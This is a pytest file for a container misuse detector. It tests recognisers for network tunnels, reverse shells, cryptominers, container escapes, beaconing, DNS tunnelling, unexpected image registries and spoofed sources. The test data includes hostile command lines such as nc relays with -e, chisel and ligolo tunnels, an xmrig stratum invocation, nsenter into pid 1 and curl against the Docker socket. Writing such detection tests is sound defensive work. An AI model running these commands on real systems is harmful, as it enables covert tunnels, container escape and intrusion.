"""The named misuse rules on single records: recognisers (misuse_patterns) and the detector's
host/network joins, beacon maths, DNS tunnelling, unexpected images, exceptions, disabling."""
from __future__ import annotations

import random

import pytest

from model.records import LifecycleRecord, NetRecord, ProcessRecord
from scheduler.alerting.alerts import ContainerRef
from scheduler.detect import misuse_patterns as pat
from scheduler.detect.misuse import MisuseDetector, beacon_stats
from scheduler.detect.misuse_config import MisuseConfig

CID = "c" * 64
C = ContainerRef(id=CID, name="web-9", image="localhost/app:1")


@pytest.mark.parametrize("cmd,needle", [
    ("ssh -fNR 8080:localhost:80 u@203.0.113.9", "remote forward"),
    ("ssh -D 1080 u@h", "dynamic SOCKS"),
    ("socat TCP-LISTEN:9000,fork TCP:10.0.0.5:80", "socat relay"),
    ("nc -ll -p 9000 -e nc 10.0.0.5 80", "nc relay"),
    ("chisel client 203.0.113.9:8000 R:socks", "chisel"),
    ("/tmp/frpc -c frpc.ini", "frpc"),
    ("ngrok tcp 22", "ngrok"),
    ("gost -L=:8080 -F=socks5://h:1080", "gost"),
    ("sshuttle -r u@h 0/0", "sshuttle"),
    ("iodine -f t.example.com", "iodine"),
    ("./dnscat2 --dns server=x", "dnscat2"),
    ("./ligolo-ng agent -connect h:11601", "ligolo"),
])
def test_tunnel_shapes(cmd: str, needle: str) -> None:
    assert needle in pat.tunnel_match(cmd)


@pytest.mark.parametrize("cmd", [
    "ssh -l user host", "ssh -i key host uptime", "nc -l -p 8080", "nc -w 1 172.17.0.2 21",
    "socat -V", "httpd -f -p 8080", "wget -qO- http://api.example.com/v1/items",
    "sh -c 'while true; do wget -qO- http://api.example.com/; sleep 3; done'"])
def test_not_tunnels(cmd: str) -> None:
    assert pat.tunnel_match(cmd) == ""


def test_miner_and_escape_shapes() -> None:
    assert pat.miner_match("xmrig", "/opt/xmrig", "/opt/xmrig -o pool:3333") == "miner program xmrig"
    assert "stratum+tcp" in pat.miner_match("sh", "/bin/busybox", "./x -o stratum+tcp://p:3333")
    assert "--donate-level" in pat.miner_match("node", "/usr/bin/node", "node m.js --donate-level 1")
    assert pat.miner_match("tar", "/bin/tar", "tar -a -cf x.tgz d") == ""
    assert pat.miner_match("dig", "/usr/bin/dig", "dig stratum.example.com") == ""
    assert "pid 1" in pat.escape_match("nsenter", "/bin/busybox", "nsenter -t 1 -m -u -n -i sh")
    assert "host block device" in pat.escape_match("mount", "/bin/busybox", "mount /dev/sda1 /mnt")
    assert "runtime socket" in pat.escape_match(
        "curl", "/usr/bin/curl", "curl --unix-socket /var/run/docker.sock http://x/containers/json")
    assert "kubectl" in pat.escape_match("kubectl", "/usr/bin/kubectl", "kubectl get pods")
    assert "unshare" in pat.escape_match("unshare", "/bin/busybox", "unshare -Urm sh")
    for benign in ("mount", "mount -t tmpfs none /tmp", "/usr/bin/runc init", "ls /dev/sda1", "cat /etc/hosts",
                   "wget -qO- http://172.17.0.3:8080/health"):
        assert pat.escape_match("", "", benign) == "", benign


def test_shell_names_and_remote_parse() -> None:
    assert pat.is_shell("sh", "/bin/busybox", "sh")
    assert pat.is_shell("python3.11", "/usr/bin/python3.11", "python3 -c x")
    assert not pat.is_shell("httpd", "/bin/busybox", "httpd -f -p 8080")
    assert not pat.is_shell("nc", "/bin/busybox", "nc 10.0.0.5 4444 -e sh")
    assert pat.parse_remote("tcp 10.0.0.5:4444") == ("tcp", "10.0.0.5", 4444)
    assert pat.parse_remote("udp [fd00::1]:53") == ("udp", "fd00::1", 53)
    assert pat.parse_remote("") is None and pat.parse_remote("garbage") is None


def test_registry_of() -> None:
    assert pat.registry_of("alpine") == "docker.io"
    assert pat.registry_of("library/alpine:3") == "docker.io"
    assert pat.registry_of("localhost/webapp:1.4") == "localhost"
    assert pat.registry_of("evil.example.net:5000/x/y:1") == "evil.example.net:5000"


def _proc(ts: float, cmd: str, name: str, pid: int = 100) -> ProcessRecord:
    return ProcessRecord(ts=ts, container_id=CID, image=C.image, pid=pid, ppid=1, name=name,
                         path="/bin/busybox", cmdline=cmd, host="h1")


def _conn(ts: float, resp_h: str, resp_p: int, orig_p: int = 40000, uid: str = "") -> NetRecord:
    return NetRecord(ts=ts, kind="conn", container_id=CID, image=C.image, orig_h="172.17.0.9",
                     resp_h=resp_h, resp_p=resp_p, orig_p=orig_p, proto="tcp",
                     uid=uid or f"C{ts}", host="h1", conn_state="SF")


def test_reverse_shell_joins_its_connection() -> None:
    det = MisuseDetector()
    assert det.net("conn", {}, _conn(10.0, "10.0.0.5", 4444, uid="Cshell"), C) == []
    cols = {"stdio_socket": "0,1,2", "stdio_remote": "tcp 10.0.0.5:4444"}
    out = det.process(cols, _proc(10.2, "sh", "sh"), C)
    assert [c.rule for c in out] == ["reverse_shell"]
    sides = {e["side"] for e in out[0].evidence}
    assert sides == {"host", "network"}
    assert "10.0.0.5:4444" in out[0].title
    # the same shell again (snapshot) is not a new candidate; a non-shell with socket stdio is none
    assert det.process(cols, _proc(40.0, "sh", "sh"), C) == []
    assert det.process(cols, _proc(11.0, "nc 10.0.0.5 4444", "nc", pid=7), C) == []
    # a shell on pipes is none
    assert det.process({}, _proc(12.0, "sh -c id", "sh", pid=8), C) == []
    # Zeek logging the connection later joins by endpoint
    late = det.net("conn", {}, _conn(10.0, "10.0.0.5", 4444, orig_p=40001, uid="Clate"), C)
    assert [c.rule for c in late] == ["reverse_shell"]


COLD = MisuseConfig(beacon_cold_start=True)


def test_beacon_with_missed_beat_and_jitter_tolerance() -> None:
    det = MisuseDetector(COLD)
    rng = random.Random(7)
    times = [100 + 5 * i + rng.uniform(-0.02, 0.02) for i in range(14) if i != 6]   # one missed
    out = []
    for t in times:
        out += det.net("conn", {}, _conn(t, "203.0.113.77", 8443), C)
    assert [c.rule for c in out] == ["beaconing"]
    assert "connections every 5.0 s" in out[0].title and "missed beat" in out[0].title
    st = beacon_stats(times)
    assert st is not None and abs(st.period - 5.0) < 0.05 and st.missed == 1


def test_beacon_silent_on_random_health_checks_baseline_and_allow_list() -> None:
    rng = random.Random(3)
    det = MisuseDetector(COLD)
    t, out = 0.0, []
    for _ in range(40):                                   # 1.5-2.5 s random sleep: CV ~0.14
        t += 0.05 + rng.uniform(1.5, 2.5)
        out += det.net("conn", {}, _conn(t, "172.17.0.3", 8080), C)
    assert out == []
    regular = [_conn(5.0 * i, "198.51.100.7", 80) for i in range(12)]
    base = MisuseDetector(baseline={C.image: {"198.51.100.7:80"}})
    assert sum((base.net("conn", {}, r, C) for r in regular), []) == []
    allow = MisuseDetector(MisuseConfig(beacon_cold_start=True,
                                        beacon_allow={"localhost/app*": ["198.51.100.0/24"]}))
    assert sum((allow.net("conn", {}, r, C) for r in regular), []) == []
    off = MisuseDetector(MisuseConfig(beacon_cold_start=True, disabled=["beaconing"]))
    assert sum((off.net("conn", {}, r, C) for r in regular), []) == []
    on = MisuseDetector(COLD)
    assert [c.rule for c in sum((on.net("conn", {}, r, C) for r in regular), [])] == ["beaconing"]
    # no training destinations for the image and no cold start: not judged at all
    assert sum((MisuseDetector().net("conn", {}, r, C) for r in regular), []) == []
    other = MisuseDetector(baseline={C.image: {"203.0.113.1:443"}})      # trained: judged
    assert [c.rule for c in sum((other.net("conn", {}, r, C) for r in regular), [])] == \
        ["beaconing"]


def _dns(ts: float, name: str, qtype: str = "TXT") -> tuple[dict, NetRecord]:
    rec = NetRecord(ts=ts, kind="dns", container_id=CID, image=C.image, orig_h="172.17.0.9",
                    resp_h="10.0.0.2", resp_p=53, proto="udp", host="h1", domain=name,
                    rcode="NXDOMAIN")
    return {"qtype_name": qtype, "query": name}, rec


def test_dns_tunnel_needs_many_distinct_encoded_names() -> None:
    det = MisuseDetector()
    rng = random.Random(1)
    out = []
    for i in range(12):
        label = "".join(rng.choice("0123456789abcdef") for _ in range(40))
        raw, rec = _dns(50 + i, f"{label}.t.tunnel.example")
        out += det.net("dns", raw, rec, C)
    assert [c.rule for c in out] == ["dns_tunnel"]
    assert "tunnel.example" in out[0].title
    quiet = MisuseDetector()
    same = "internal-my-elb-1234567890abcdefgh.us-east-1.elb.amazonaws.com"
    res = []
    for i in range(30):
        res += quiet.net("dns", *_dns(i, same, "A"), C)
        res += quiet.net("dns", *_dns(i, "db.svc.internal", "A"), C)
    assert res == []


def test_stratum_record_and_miner_exec_merge_by_container() -> None:
    det = MisuseDetector()
    p = det.process({}, _proc(5.0, "/tmp/xmrig -o stratum+tcp://10.0.0.9:3333 -u w --donate-level 1",
                               "xmrig"), C)
    rec = _conn(5.1, "10.0.0.9", 3333)
    rec.kind = "stratum"
    n = det.net("stratum", {"method": "mining.subscribe"}, rec, C)
    assert [c.rule for c in p + n] == ["cryptomining", "cryptomining"]
    assert p[0].key == n[0].key            # same aggregation key: merged into one alert
    assert any(e["side"] == "host" for e in n[0].evidence)


def test_unexpected_image_and_exceptions() -> None:
    cfg = MisuseConfig(allowed_registries=["localhost", "docker.io"])
    det = MisuseDetector(cfg)
    ok = LifecycleRecord(ts=1, container_id="a" * 64, image="localhost/app:1", action="start",
                         host="h1")
    bad = LifecycleRecord(ts=2, container_id="b" * 64, image="evil.example.net/tools:6",
                          action="create", name="x", host="h1")
    assert det.lifecycle(ok) == []
    out = det.lifecycle(bad)
    assert [c.rule for c in out] == ["unexpected_image"]
    assert out[0].container.name == "(host) h1"
    exempt = MisuseDetector(MisuseConfig(allowed_registries=["localhost"],
                                         allow={"evil.example.net/*": ["unexpected_image"]}))
    assert exempt.lifecycle(bad) == []


def test_raw_socket_and_spoofed_source() -> None:
    det = MisuseDetector(internal=lambda a: a.startswith("172.17."),
                         known_address=lambda a: a == "172.17.0.9")
    out = det.process({"raw_sockets": "packet"}, _proc(1.0, "arping -c 5 172.17.0.1", "arping"), C)
    assert [c.rule for c in out] == ["raw_socket"]
    unknown = ContainerRef(id="", name="container unknown", image="unknown", address="172.17.0.99")
    recs = [NetRecord(ts=10 + i, kind="conn", container_id="", image="", orig_h="172.17.0.99",
                      resp_h="172.17.0.9", resp_p=0, proto="icmp", host="h1") for i in range(3)]
    res = sum((det.net("conn", {}, r, unknown) for r in recs), [])
    assert [c.rule for c in res] == ["spoofed_source"]
    known = NetRecord(ts=20, kind="conn", container_id="", image="", orig_h="172.17.0.9",
                      resp_h="172.17.0.1", proto="icmp", host="h1")
    assert sum((det.net("conn", {}, known, unknown) for _ in range(5)), []) == []


def test_added_raw_capabilities_from_inventory() -> None:
    det = MisuseDetector()
    row = {"id": CID, "image": C.image, "cap_add": "NET_ADMIN,NET_RAW"}
    out = det.inventory(row, 5.0, "h1", C)
    assert [c.rule for c in out] == ["raw_socket"] and "NET_ADMIN, NET_RAW" in out[0].title
    assert det.inventory(row, 15.0, "h1", C) == []            # the next snapshot: same finding
    assert MisuseDetector().inventory({"id": CID, "image": C.image, "cap_add": "SYS_TIME"},
                                      5.0, "h1", C) == []
